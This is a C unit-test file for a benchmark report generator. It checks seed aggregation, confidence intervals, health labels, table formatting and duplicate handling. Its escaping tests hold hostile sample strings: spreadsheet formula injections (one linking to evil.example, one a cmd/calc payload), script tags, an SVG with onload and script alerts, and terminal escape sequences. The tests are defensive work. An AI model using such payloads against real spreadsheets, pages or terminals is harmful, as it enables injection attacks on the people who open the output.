/* test_report.c — the summary rows (bench/report/report.h) on made-up records:
 * seeds aggregate into one row, the step time's interval and the ratio's
 * are bench/report/stats.h's on the runs' medians, the noise rule, the health
 * labels, perplexity mean ± sd, and the markdown table shows the labels. */
#include <criterion/criterion.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "compare.h"
#include "record.h"
#include "report.h"
#include "stats.h"
#include "test_rows.h"

/* A training record of method m, seed s: median step ms, its quartiles,
 * valid ppl and health verdict (NULL: no health object). */
static json_t *rec(const char *m, int seed, double ms, double p25, double p75,
		   double ppl, const char *verdict)
{
	json_t *r = json_pack(
	    "{s:i, s:s, s:s, s:s, s:{s:s, s:i, s:s, s:i, s:s, s:s},"
	    " s:{s:{s:f, s:f, s:f}}, s:{s:I, s:I}, s:{s:f}}",
	    "schema", 1, "kind", "train", "status", "ok", "impl", "deqbench",
	    "config", "method", m, "seed", seed, "corpus", "brown", "layers",
	    12, "out", "x.jsonl", "impl", "deqbench", "timing", "step_ms",
	    "median", ms, "p25", p25, "p75", p75, "memory",
	    "peak_depth_solver_bytes",
	    (json_int_t)(strcmp(m, "unroll") ? 1 : 4) << 20, "peak_total_bytes",
	    (json_int_t)8 << 20, "quality", "valid_ppl", ppl);
	cr_assert_not_null(r);
	if (verdict)
		json_object_set_new(r, "health",
				    json_pack("{s:s, s:b}", "verdict", verdict,
					      "unconverged", 0));
	return r;
}

typedef void (*printer)(FILE *, const json_t *);

static double num(const json_t *row, const char *path)
{
	return record_num(row, path);
}

static json_t *rows_of_sample(void)
{
	json_t *all = json_array(), *rows;
	double u[] = {100, 110, 95}, d[] = {150, 160, 170};
	for (int s = 0; s < 3; s++) {
		json_array_append_new(all,
				      rec("unroll", s + 1, u[s], u[s] * 0.98,
					  u[s] * 1.02, 200 + s, "healthy"));
		/* seed 2's run is noisy (IQR 20% of the median) and
		 * unstable */
		json_array_append_new(
		    all, rec("deq", s + 1, d[s], d[s] * (s == 1 ? 0.9 : 0.99),
			     d[s] * (s == 1 ? 1.1 : 1.01), 210,
			     s == 1 ? "unstable" : "healthy"));
	}
	rows = report_rows(all);
	json_decref(all);
	cr_assert_eq(json_array_size(rows), 2, "seeds are one row");
	return rows;
}

/* An unroll run with microbatches=2 is another method row of unroll's
 * group (microbatches is a method key), labelled so, and measured against
 * the whole-batch unroll row whichever comes first in the file. */
Test(report, microbatches_row_beside_unroll)
{
	json_t *all = json_array(), *rows;
	for (int s = 0; s < 2; s++) {
		json_t *m = rec("unroll", s + 1, 130, 128, 132, 200, "healthy");
		json_object_set_new(json_object_get(m, "config"),
				    "microbatches", json_integer(2));
		json_array_append_new(all, m);
		json_array_append_new(
		    all, rec("unroll", s + 1, 100, 98, 102, 200, "healthy"));
	}
	rows = report_rows(all);
	cr_assert_eq(json_array_size(rows), 2);
	const json_t *mb = json_array_get(rows, 0),
		     *un = json_array_get(rows, 1);
	cr_assert_str_eq(json_string_value(json_object_get(mb, "group")),
			 json_string_value(json_object_get(un, "group")));
	cr_assert(strstr(json_string_value(json_object_get(mb, "method")),
			 "microbatches=2"),
		  "%s", json_string_value(json_object_get(mb, "method")));
	cr_assert(!strstr(json_string_value(json_object_get(un, "method")),
			  "microbatches"));
	cr_assert_float_eq(num(mb, "step_x_unroll.ratio"), 1.3, 1e-9);
	cr_assert(json_is_true(
	    json_object_get(json_object_get(un, "step_x_unroll"), "self")));
	json_decref(rows);
	json_decref(all);
}

Test(report, seeds_aggregate_with_intervals)
{
	json_t *rows = rows_of_sample();
	const json_t *u = json_array_get(rows, 0), *d = json_array_get(rows, 1);
	double a[] = {150, 160, 170}, b[] = {100, 110, 95}, lo, hi;
	cr_assert_eq(json_integer_value(json_object_get(u, "runs")), 3);
	cr_assert_eq(json_array_size(json_object_get(u, "seeds")), 3);
	cr_assert_float_eq(num(u, "step_ms.median"), 100, 0);
	stats_log_interval(b, 3, 0.95, &lo, &hi);
	cr_assert_float_eq(num(u, "step_ms.lo"), lo, 1e-12);
	cr_assert_float_eq(num(u, "step_ms.hi"), hi, 1e-12);
	/* F1: the point estimate is the one the interval is about, the
	 * geometric mean (and its ratio); the median stays beside it */
	cr_assert_float_eq(num(u, "step_ms.gmean"), cbrt(100.0 * 110 * 95),
			   1e-9);
	cr_assert_float_eq(num(d, "step_x_unroll.ratio"),
			   cbrt(150.0 * 160 * 170) / cbrt(100.0 * 110 * 95),
			   1e-12);
	cr_assert_float_eq(num(d, "step_x_unroll.median_ratio"), 1.6, 1e-12);
	cr_assert(json_is_false(
	    json_object_get(json_object_get(d, "step_x_unroll"), "self")));
	/* unroll over itself: 1, no interval (Welch's of a sample against
	 * itself means nothing) */
	cr_assert_float_eq(num(u, "step_x_unroll.ratio"), 1, 0);
	cr_assert(json_is_null(
	    json_object_get(json_object_get(u, "step_x_unroll"), "lo")));
	cr_assert(json_is_true(
	    json_object_get(json_object_get(u, "step_x_unroll"), "self")));
	stats_log_ratio_interval(a, 3, b, 3, 0.95, &lo, &hi);
	cr_assert_float_eq(num(d, "step_x_unroll.lo"), lo, 1e-12);
	cr_assert_float_eq(num(d, "step_x_unroll.hi"), hi, 1e-12);
	cr_assert_float_eq(num(d, "depth_solver_x_unroll"), 0.25, 1e-12);
	cr_assert_float_eq(num(u, "valid_ppl.mean"), 201, 1e-12);
	cr_assert_float_eq(num(u, "valid_ppl.sd"), 1, 1e-12);
	json_decref(rows);
}

/* F1: every printer puts the geometric mean inside the interval of the
 * geometric mean (the median 160 lies elsewhere), and 1 on the unroll
 * row's own ratio. */
Test(report, printers_show_the_estimate_of_the_interval)
{
	json_t *rows = rows_of_sample();
	double lo, hi, a[] = {150, 160, 170}, b[] = {100, 110, 95};
	char want[128], *md = printed(report_print_md, rows);
	char *term = printed(report_print_term, rows);
	stats_log_interval(a, 3, 0.95, &lo, &hi);
	snprintf(want, sizeof(want), "| %.2f [%.2f, %.2f] |",
		 cbrt(150.0 * 160 * 170), lo, hi);
	cr_assert(strstr(md, want), "%s in %s", want, md);
	snprintf(want, sizeof(want), " %.0f [%.0f-%.0f] ",
		 cbrt(150.0 * 160 * 170), lo, hi);
	cr_assert(strstr(term, want), "%s in %s", want, term);
	stats_log_ratio_interval(a, 3, b, 3, 0.95, &lo, &hi);
	snprintf(want, sizeof(want), "| %.2f [%.2f, %.2f] |",
		 cbrt(150.0 * 160 * 170) / cbrt(100.0 * 110 * 95), lo, hi);
	cr_assert(strstr(md, want), "%s in %s", want, md);
	cr_assert(strstr(md, "| 1 | - | - |"), "unroll's own ratio: %s", md);
	cr_assert(strstr(term, "                  1 "), "%s", term);
	free(md);
	free(term);
	json_decref(rows);
}

Test(report, health_and_noise_labels)
{
	json_t *rows = rows_of_sample();
	const json_t *u = json_array_get(rows, 0), *d = json_array_get(rows, 1);
	const json_t *dl =
	    json_object_get(json_object_get(d, "health"), "labels");
	cr_assert_eq(json_array_size(json_object_get(
			 json_object_get(u, "health"), "labels")),
		     0);
	cr_assert_eq(json_array_size(dl), 2);
	cr_assert_str_eq(json_string_value(json_array_get(dl, 0)),
			 "unstable 1/3");
	cr_assert_str_eq(json_string_value(json_array_get(dl, 1)), "noisy 1/3");
	json_decref(rows);
}

Test(report, one_run_has_no_interval_and_table_shows_labels)
{
	json_t *all = json_array(), *rows;
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	json_array_append_new(all, rec("unroll", 1, 100, 99, 101, 200, NULL));
	json_array_append_new(all,
			      rec("deq", 1, 120, 119, 121, 190, "diverged"));
	rows = report_rows(all);
	cr_assert(json_is_null(json_object_get(
	    json_object_get(json_array_get(rows, 0), "step_ms"), "lo")));
	report_print_md(f, rows);
	fclose(f);
	cr_assert(strstr(buf, "| health unknown 1/1 |"), "%s", buf);
	cr_assert(strstr(buf, "| diverged 1/1 |"), "%s", buf);
	cr_assert(strstr(buf, "| 1.20 (n=1: no interval) |"), "%s", buf);
	free(buf);
	json_decref(rows);
	json_decref(all);
}

/* ---- record strings in the printers (G14) ---- */

/* Labels a hostile record file may carry (valid records: validate lets
 * any string through): spreadsheet formulas, markdown table syntax and
 * HTML, a line break, and terminal control sequences (clear screen, an
 * OSC window title, colour, a C1 CSI). */
static const char *const HOSTILE[] = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTAB",
    "\rCR",
    "<script>alert(1)</script>",
    "a|b|c\\|d",
    "line1\nline2",
    "evil\x1b[2J\x1b]0;pwned\x07\x1b[31mRED\xc2\x9b"
    "31m",
};
#define N_HOSTILE (sizeof(HOSTILE) / sizeof(*HOSTILE))

/* One row per hostile label (layers 1, 2, ... keep the rows apart). */
static json_t *hostile_rows(void)
{
	json_t *all = json_array(), *rows;
	for (size_t i = 0; i < N_HOSTILE; i++) {
		json_t *r = rec("deq", 1, 100, 99, 101, 200, "healthy");
		json_object_set_new(json_object_get(r, "config"), "layers",
				    json_integer((json_int_t)i + 1));
		json_object_set_new(r, "method",
				    json_pack("{s:s}", "label", HOSTILE[i]));
		json_array_append_new(all, r);
	}
	rows = report_rows(all);
	json_decref(all);
	cr_assert_eq(json_array_size(rows), N_HOSTILE);
	return rows;
}

/* The fields of the CSV record at *p (RFC 4180: quoted fields may hold
 * line breaks), unquoted, into out[n]; *p moves past its line break. How
 * many fields. */
static int csv_fields(const char **p, char out[][256], int n)
{
	const char *s = *p;
	int k = 0;
	while (k < n) {
		size_t l = 0;
		if (*s == '"') {
			for (s++; *s && !(s[0] == '"' && s[1] != '"'); s++) {
				s += *s == '"';
				if (l < 255)
					out[k][l++] = *s;
			}
			s += *s == '"';
		} else
			for (; *s && *s != ',' && *s != '\n'; s++)
				if (l < 255)
					out[k][l++] = *s;
		out[k++][l] = 0;
		if (*s != ',')
			break;
		s++;
	}
	*p = s + (*s == '\n');
	return k;
}

/* G14: no CSV cell starts with =, +, -, @, tab or CR (a spreadsheet runs
 * it as a formula): such text gets a leading ' (OWASP's rule). */
Test(report, csv_cells_are_not_formulas)
{
	json_t *rows = hostile_rows();
	char *t = printed(report_print_csv, rows), cells[64][256];
	const char *l = t;
	size_t found = 0, lines = 0;
	csv_fields(&l, cells, 64); /* the header */
	while (*l) {
		int n = csv_fields(&l, cells, 64);
		cr_assert_geq(n, 2, "%s", t);
		cr_assert(!cells[1][0] || !strchr("=+-@\t\r", cells[1][0]),
			  "cell %s", cells[1]);
		for (size_t i = 0; i < N_HOSTILE; i++)
			found += cells[1][0] == '\'' &&
				 !strcmp(cells[1] + 1, HOSTILE[i]);
		lines++;
	}
	cr_assert_eq(lines, N_HOSTILE, "%s", t);
	cr_assert_eq(found, 6, "the six formula labels, quoted: %s", t);
	free(t);
	json_decref(rows);
}

/* G14: a markdown row keeps its columns (| escaped), its line (line breaks
 * become spaces) and no HTML (< and > escaped). */
Test(report, markdown_cells_are_escaped)
{
	json_t *rows = hostile_rows();
	char *t = printed(report_print_md, rows), *l;
	int lines = 0, header = -1;
	for (l = t; *l; l = strchr(l, '\n') + 1) {
		int bars = 0, esc = 0; /* a | after an odd run of \ is text */
		for (const char *c = l; *c && *c != '\n'; c++) {
			bars += *c == '|' && !esc;
			esc = *c == '\\' && !esc;
		}
		if (header < 0)
			header = bars;
		cr_assert_eq(bars, header, "line %d: %.*s", lines,
			     (int)strcspn(l, "\n"), l);
		lines++;
	}
	cr_assert_eq(lines, 2 + (int)N_HOSTILE, "%s", t);
	cr_assert_null(strchr(t, '<'), "%s", t);
	cr_assert_null(strchr(t, '\r'), "%s", t);
	cr_assert(strstr(t, "| &lt;script&gt;alert(1)&lt;/script&gt; |"), "%s",
		  t);
	cr_assert(strstr(t, "| a\\|b\\|c\\\\\\|d |"), "%s", t);
	cr_assert(strstr(t, "| line1 line2 |"), "%s", t);
	free(t);
	json_decref(rows);
}

/* 1 when s holds a control character: C0 (but the line feed), DEL, or
 * C1 (U+0080..U+009F, UTF-8 C2 80..C2 9F). */
static int has_control(const char *s)
{
	for (const unsigned char *c = (const unsigned char *)s; *c; c++)
		if ((*c < 0x20 && *c != '\n') || *c == 0x7f ||
		    (c[0] == 0xc2 && c[1] >= 0x80 && c[1] <= 0x9f))
			return 1;
	return 0;
}

/* G14: the terminal table writes no control character of a record (an
 * escape sequence would clear the screen or retitle the window). */
Test(report, terminal_table_has_no_control_characters)
{
	json_t *rows = hostile_rows();
	char *t = printed(report_print_term, rows);
	cr_assert_not(has_control(t), "%s", t);
	free(t);
	json_decref(rows);
}

static void compare_md(FILE *f, const json_t *res)
{
	compare_print(f, res, COMPARE_MD);
}

static void compare_csv(FILE *f, const json_t *res)
{
	compare_print(f, res, COMPARE_CSV);
}

/* G14: compare prints the same record strings through the same helpers:
 * CSV cells are no formulas, a markdown pair keeps its row. */
Test(report, compare_output_is_escaped)
{
	json_t *all = json_array(), *res;
	struct compare_opts o = {NULL, COMPARE_THRESHOLD, COMPARE_ALPHA};
	char *t, *l;
	size_t lines = 0;
	for (size_t i = 0; i < N_HOSTILE; i++) {
		json_t *r = rec("deq", 1, 100, 99, 101, 200, "healthy");
		json_object_set_new(json_object_get(r, "config"), "layers",
				    json_integer((json_int_t)i + 1));
		json_object_set_new(r, "method",
				    json_pack("{s:s}", "label", HOSTILE[i]));
		json_array_append_new(all, r);
	}
	char err[400];
	res = compare_records(all, all, &o, err, sizeof(err));
	cr_assert_not_null(res, "%s", err);
	cr_assert_eq(json_array_size(json_object_get(res, "pairs")), N_HOSTILE);
	t = printed(compare_md, res);
	for (l = t; *l; l += strcspn(l, "\n") + (l[strcspn(l, "\n")] != 0))
		lines++;
	/* header, rule, a line per pair, then a blank line and the note on
	 * what the figures are */
	cr_assert_eq(lines, 4 + N_HOSTILE, "%s", t);
	cr_assert_null(strchr(t, '<'), "%s", t);
	cr_assert_not(has_control(t), "%s", t);
	cr_assert(strstr(t, "| a\\|b\\|c\\\\\\|d |"), "%s", t);
	free(t);
	t = printed(compare_csv, res);
	cr_assert(strstr(t, ",\"'=HYPERLINK(") && strstr(t, ",\"'@SUM(") &&
		      !strstr(t, ",\"=") && !strstr(t, ",\"+") &&
		      !strstr(t, ",\"-") && !strstr(t, ",\"@"),
		  "%s", t);
	free(t);
	json_decref(res);
	json_decref(all);
}

/* Standard base64 (RFC 4648, padded) of n bytes at p; malloc'd. */
static char *base64(const unsigned char *p, size_t n)
{
	static const char a[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
	    "0123456789+/";
	char *o = malloc(4 * (n / 3 + 1) + 1), *q = o;
	for (size_t i = 0; i < n; i += 3) {
		unsigned v = (unsigned)p[i] << 16 |
			     (i + 1 < n ? (unsigned)p[i + 1] << 8 : 0) |
			     (i + 2 < n ? p[i + 2] : 0);
		*q++ = a[v >> 18 & 63];
		*q++ = a[v >> 12 & 63];
		*q++ = i + 1 < n ? a[v >> 6 & 63] : '=';
		*q++ = i + 2 < n ? a[v & 63] : '=';
	}
	*q = 0;
	return o;
}

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	cr_assert_not_null(f);
	fputs(text, f);
	fclose(f);
}

/* G14: --html embeds each SVG beside the records as an image (a data:
 * URI, which a browser never runs script from), never its markup inline:
 * an SVG's <script>, on* attributes and text after </svg> stay out of the
 * page. */
Test(report, html_svg_runs_no_script)
{
	char dir[] = "/tmp/dq_report_html_XXXXXX", path[64], evil[96], good[96],
	     *paths[1] = {path}, *page = NULL, *b64, *want;
	const char *good_svg =
	    "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/"
	    "svg\"><rect width=\"4\" height=\"4\"/></svg>\n";
	size_t len = 0, imgs = 0;
	json_t *rows = rows_of_sample();
	const json_t *all[1] = {rows};
	FILE *f;
	cr_assert_not_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/r.jsonl", dir);
	snprintf(evil, sizeof(evil), "%s/r.evil.svg", dir);
	snprintf(good, sizeof(good), "%s/r.good.svg", dir);
	write_file(evil, "<svg xmlns=\"http://www.w3.org/2000/svg\" "
			 "onload=\"alert(1)\"><script>alert(2)</script></svg>\n"
			 "<script>alert(3)</script>\n");
	write_file(good, good_svg);
	f = open_memstream(&page, &len);
	cr_assert_eq(report_write_html(f, 1, paths, all), 0);
	fclose(f);
	remove(evil);
	remove(good);
	rmdir(dir);
	cr_assert_null(strstr(page, "<script"), "%s", page);
	cr_assert_null(strstr(page, "<svg"), "%s", page);
	cr_assert_null(strstr(page, "onload"), "%s", page);
	cr_assert_null(strstr(page, "alert("), "%s", page);
	for (const char *p = page;
	     (p = strstr(p, "<img src=\"data:image/svg+xml;base64,")); p++)
		imgs++;
	cr_assert_eq(imgs, 2, "%s", page);
	b64 = base64((const unsigned char *)good_svg, strlen(good_svg));
	want = malloc(strlen(b64) + 64);
	cr_assert_not_null(want);
	sprintf(want, "data:image/svg+xml;base64,%s\"", b64);
	cr_assert(strstr(page, want), "%s", page);
	free(want);
	free(b64);
	free(page);
	json_decref(rows);
}

/* ---- intervals of few runs; the terminal table's width ---- */

/* Intervals need 3 runs: with 2, t(0.975, 1) = 12.7 makes one that says
 * nothing (a 2-run row printed "5.31 [0.00-409294.77]"). The JSON has
 * none, and the printers say why. */
Test(report, two_runs_have_no_interval)
{
	json_t *all = json_array(), *rows;
	char *md, *term;
	for (int s = 1; s <= 2; s++) {
		json_array_append_new(
		    all, rec("unroll", s, 100 * s, 99, 101, 200, "healthy"));
		json_array_append_new(all,
				      rec("deq", s, s == 1 ? 5.31 : 409294.77,
					  1, 1e6, 190, "healthy"));
	}
	rows = report_rows(all);
	for (size_t j = 0; j < 2; j++) {
		const json_t *r = json_array_get(rows, j);
		cr_assert(json_is_null(
		    json_object_get(json_object_get(r, "step_ms"), "lo")));
		cr_assert_eq(num(r, "step_ms.n"), 2);
	}
	cr_assert(json_is_null(json_object_get(
	    json_object_get(json_array_get(rows, 1), "step_x_unroll"), "lo")));
	md = printed(report_print_md, rows);
	term = printed(report_print_term, rows);
	/* the geometric mean of 5.31 and 409294.77 */
	cr_assert(strstr(md, "| 1474.23 (n=2: no interval) |"), "%s", md);
	cr_assert(strstr(md, "| 10.42 (n=2: no interval) |"), "%s", md);
	/* no interval in the rows (the headers name one) */
	cr_assert_null(strchr(strstr(md, ":|\n"), '['), "%s", md);
	cr_assert(strstr(term, "1474 (n=2: no CI)"), "%s", term);
	cr_assert_null(strchr(strstr(term, "valid ppl !\n"), '['), "%s", term);
	free(md);
	free(term);
	json_decref(rows);
	json_decref(all);
}

/* Display columns of a UTF-8 line: East Asian wide characters count 2
 * (the CJK blocks the test uses), continuation bytes 0. */
static int line_columns(const char *s, const char *end)
{
	int c = 0;
	for (const unsigned char *p = (const unsigned char *)s;
	     p < (const unsigned char *)end; p++) {
		if ((*p & 0xC0) == 0x80)
			continue;
		/* U+3000..U+9FFF: E3 80 80 .. E9 BF BF */
		c += *p >= 0xE3 && *p <= 0xE9 ? 2 : 1;
	}
	return c;
}

/* A record of rec() with label, data_dir (the group) and its step time's
 * quantiles all x (so the noise rule does not fire). */
static json_t *wide(const char *m, const char *label, const char *dir, int seed,
		    double x, double ppl, const char *verdict)
{
	json_t *r = rec(m, seed, x, x, x, ppl, verdict);
	json_object_set_new(json_object_get(r, "config"), "data_dir",
			    json_string(dir));
	if (label)
		json_object_set_new(r, "method",
				    json_pack("{s:s}", "label", label));
	return r;
}

/* The terminal table stays within REPORT_TERM_WIDTH columns whatever the
 * values: times from 1e-9 to 1e300 ms, intervals over 14 decades, 2 and
 * 1200 runs, perplexities of 1e12, memory ratios of 1e9, every health
 * label, labels and group names far longer than a line, wide
 * characters. */
Test(report, terminal_table_fits_any_values)
{
	json_t *all = json_array(), *rows;
	char label[600] = "", group[400] = "", *t, *l;
	const double step[] = {0.001, 5.31, 409294.77};
	int lines = 0;
	for (int i = 0; i < 40; i++)
		strcat(label, "\xe6\xb7\xb1\xe5\xba\xa6 deq "); /* 深度 */
	for (int i = 0; i < 30; i++)
		strcat(group, i == 7 ? "/a-very-long-directory-name-that-"
				       "goes-on-and-on-past-the-width-of-"
				       "any-terminal-line-at-all-really "
				     : "dir ");
	for (int s = 0; s < 3; s++) {
		json_array_append_new(all,
				      wide("unroll", NULL, "d", s + 1, step[s],
					   1e12 * (s + 1), "healthy"));
		json_array_append_new(all, wide("deq", label, "d", s + 1,
						s ? 1e300 : 1e-9, 3,
						s ? "unstable" : "diverged"));
		json_array_append_new(all, wide("unroll", NULL, group, s + 1,
						99999.5, 99999.5, NULL));
	}
	for (int s = 0; s < 2; s++)
		json_array_append_new(all, wide("checkpoint", NULL, "d", s + 1,
						s ? 409294.77 : 5.31, 200,
						"healthy"));
	for (int s = 0; s < 1200; s++) {
		json_t *r = wide("revolve", "revolve", "d", s + 1, 1 + s % 7,
				 1 + s, "healthy");
		json_object_set_new(json_object_get(r, "memory"),
				    "peak_depth_solver_bytes",
				    json_integer((json_int_t)1 << 60));
		json_object_set_new(json_object_get(r, "health"), "unconverged",
				    json_true());
		json_array_append_new(all, r);
	}
	rows = report_rows(all);
	t = printed(report_print_term, rows);
	for (l = t; *l; lines++) {
		char *e = strchr(l, '\n');
		cr_assert_not_null(e);
		cr_assert_leq(line_columns(l, e), REPORT_TERM_WIDTH, "%.*s",
			      (int)(e - l), l);
		l = e + 1;
	}
	cr_assert_geq(lines, 12, "%s", t);
	cr_assert(strstr(t, "(n=2: no CI)"), "%s", t);
	/* a label cut inside a character still names its row */
	cr_assert(strstr(t, "  \xe6\xb7\xb1\xe5\xba\xa6 deq "), "%s", t);
	if (getenv("DQ_SHOW"))
		fputs(t, stderr);
	free(t);
	/* the markdown's cells hold such numbers whole, not cut to their
	 * buffer */
	t = printed(report_print_md, rows);
	cr_assert(strstr(t, "| 1e+197 |"), "%s", t);
	free(t);
	json_decref(rows);
	json_decref(all);
}

/* G21: a row's error and interrupted runs are shown (labels, so the
 * terminal table marks the row and names them), and an error run's
 * figures (a failed run's time, memory and perplexity) stay out of the
 * row's statistics. */
Test(report, error_runs_are_shown_and_left_out)
{
	json_t *all = json_array(), *rows, *e, *i;
	const json_t *row, *labels;
	char *term, *md;
	json_array_append_new(all,
			      rec("unroll", 1, 100, 99, 101, 200, "healthy"));
	json_array_append_new(all,
			      rec("unroll", 2, 110, 109, 111, 202, "healthy"));
	json_array_append_new(all,
			      rec("unroll", 4, 105, 104, 106, 204, "healthy"));
	e = rec("unroll", 3, 1e6, 1e6, 1e6, 99999, "healthy");
	json_object_set_new(e, "status", json_string("error"));
	json_object_set_new(json_object_get(e, "memory"), "peak_total_bytes",
			    json_integer((json_int_t)1 << 40));
	json_array_append_new(all, e);
	i = rec("unroll", 5, 120, 119, 121, 200, "healthy");
	json_object_set_new(i, "status", json_string("interrupted"));
	json_object_set_new(json_object_get(i, "quality"), "valid_ppl",
			    json_null());
	json_array_append_new(all, i);
	rows = report_rows(all);
	row = json_array_get(rows, 0);
	labels = json_object_get(json_object_get(row, "health"), "labels");
	cr_assert_eq(num(row, "runs"), 5);
	cr_assert_eq(num(row, "runs_ok"), 3);
	cr_assert_eq(num(row, "health.error"), 1);
	cr_assert_eq(num(row, "health.interrupted"), 1);
	cr_assert_str_eq(json_string_value(json_array_get(labels, 0)),
			 "error 1/5");
	cr_assert_str_eq(json_string_value(json_array_get(labels, 1)),
			 "interrupted 1/5");
	cr_assert_float_eq(num(row, "valid_ppl.mean"), 202, 1e-12);
	cr_assert_eq(num(row, "valid_ppl.n"), 3);
	cr_assert_float_eq(num(row, "total_mib"), 8, 0);
	cr_assert_float_eq(num(row, "step_ms.median"), 105, 0);
	cr_assert_eq(num(row, "step_ms.n"), 3);
	term = printed(report_print_term, rows);
	cr_assert(strstr(term, "! unroll L=12: error 1/5, interrupted 1/5"),
		  "%s", term);
	cr_assert(strstr(term, "202.0±2.0 !\n"), "%s", term);
	md = printed(report_print_md, rows);
	cr_assert(strstr(md, "| error 1/5, interrupted 1/5 |"), "%s", md);
	free(term);
	free(md);
	json_decref(rows);
	json_decref(all);
}

/* G21 memory: report_acc builds the rows of records given one at a time
 * (deqbench report's streaming reader) without holding them: after
 * report_acc_add a record is referenced by its caller alone, and of a
 * row's runs past the first not even the config is kept; the rows are
 * report_rows' of the same records. Each record has a started_at, so
 * each goes through the duplicate check too. */
Test(report, acc_holds_no_record)
{
	struct report_acc *acc = report_acc_new();
	json_t *all = json_array(), *rows, *streamed;
	cr_assert_not_null(acc);
	for (int i = 0; i < 200; i++) {
		json_t *r =
		    rec(i % 2 ? "deq" : "unroll", i / 2 + 1, 100 + i % 7, 99,
			101, 200 + i % 5, i % 3 ? "healthy" : "unstable");
		char at[32];
		snprintf(at, sizeof(at), "2026-11-27T10:%02d:%02dZ", i / 60,
			 i % 60);
		json_object_set_new(r, "started_at", json_string(at));
		cr_assert_eq(report_acc_add(acc, r), 0);
		cr_assert_eq(r->refcount, 1, "record %d kept", i);
		if (i >= 2)
			cr_assert_eq(json_object_get(r, "config")->refcount, 1,
				     "config of record %d kept", i);
		json_array_append_new(all, r);
	}
	rows = report_rows(all);
	streamed = report_acc_rows(acc);
	cr_assert(json_equal(rows, streamed));
	cr_assert_eq(json_array_size(rows), 2);
	cr_assert_eq(num(json_array_get(rows, 0), "runs"), 100);
	cr_assert_eq(num(json_array_get(rows, 1), "runs"), 100);
	cr_assert_eq(num(json_array_get(rows, 0), "duplicates"), 0);
	cr_assert_eq(
	    json_array_size(json_object_get(json_array_get(rows, 0), "seeds")),
	    100);
	report_acc_free(acc);
	json_decref(streamed);
	json_decref(rows);
	json_decref(all);
}

/* A record with started_at, as its JSON text (keys in the order given). */
static char *stamped_text(const char *m, int seed, double ms, const char *at)
{
	json_t *r = rec(m, seed, ms, ms - 1, ms + 1, 200, "healthy");
	char *s;
	json_object_set_new(r, "started_at", json_string(at));
	s = json_dumps(r, JSON_REAL_PRECISION(17));
	json_decref(r);
	return s;
}

/* The record of text with its top-level keys in reverse order (the same
 * fields as another writer may order them). New reference. */
static json_t *reversed(const char *text)
{
	json_t *r = json_loads(text, 0, NULL), *o = json_object();
	const char *keys[64];
	size_t n = 0;
	for (void *it = json_object_iter(r); it && n < 64;
	     it = json_object_iter_next(r, it))
		keys[n++] = json_object_iter_key(it);
	while (n-- > 0)
		json_object_set(o, keys[n], json_object_get(r, keys[n]));
	json_decref(r);
	return o;
}

/* G21 memory, G10's rule kept: through the accumulator, which keeps no
 * record, a record equal in every field to an earlier one (a file given
 * twice, read again from its text; keys in another order) is still left
 * out and its row names it; one that differs in any field (here its
 * median, or no started_at: two crashed runs) is a run. report_unique,
 * which compare uses, drops the same records. */
Test(report, acc_drops_duplicates)
{
	struct report_acc *acc = report_acc_new();
	const char *at = "2026-11-27T10:00:00Z";
	char *text[3] = {stamped_text("unroll", 1, 100, at),
			 stamped_text("unroll", 2, 110, at),
			 stamped_text("deq", 1, 150, at)};
	json_t *all = json_array(), *dropped = json_array(), *uniq, *rows, *r;
	const json_t *row;
	cr_assert_not_null(acc);
	/* the file, then the file again, then runs that differ a little */
	for (int pass = 0; pass < 2; pass++)
		for (int i = 0; i < 3; i++) {
			r = pass ? reversed(text[i])
				 : json_loads(text[i], 0, NULL);
			cr_assert_eq(report_acc_add(acc, r), 0);
			json_array_append_new(all, r);
		}
	r = json_loads(text[0], 0, NULL);
	json_object_set_new(
	    json_object_get(json_object_get(r, "timing"), "step_ms"), "median",
	    json_real(100.5));
	cr_assert_eq(report_acc_add(acc, r), 0);
	json_array_append_new(all, r);
	for (int k = 0; k < 2; k++) {
		r = rec("unroll", 9, 120, 119, 121, 200, "healthy");
		cr_assert_eq(report_acc_add(acc, r), 0);
		json_array_append_new(all, r);
	}
	rows = report_acc_rows(acc);
	cr_assert_eq(json_array_size(rows), 2);
	row = json_array_get(rows, 0);
	cr_assert_eq(num(row, "runs"), 5);
	cr_assert_eq(num(row, "duplicates"), 2);
	cr_assert_str_eq(
	    json_string_value(json_array_get(
		json_object_get(json_object_get(row, "health"), "labels"), 0)),
	    "duplicates left out 2");
	row = json_array_get(rows, 1);
	cr_assert_eq(num(row, "runs"), 1);
	cr_assert_eq(num(row, "duplicates"), 1);
	uniq = report_unique(all, dropped);
	cr_assert_eq(json_array_size(uniq), 6);
	cr_assert_eq(json_array_size(dropped), 3);
	for (size_t j = 0; j < 3; j++)
		cr_assert_eq(json_array_get(dropped, j),
			     json_array_get(all, 3 + j));
	json_decref(uniq);
	json_decref(dropped);
	json_decref(rows);
	report_acc_free(acc);
	json_decref(all);
	for (int i = 0; i < 3; i++)
		free(text[i]);
}
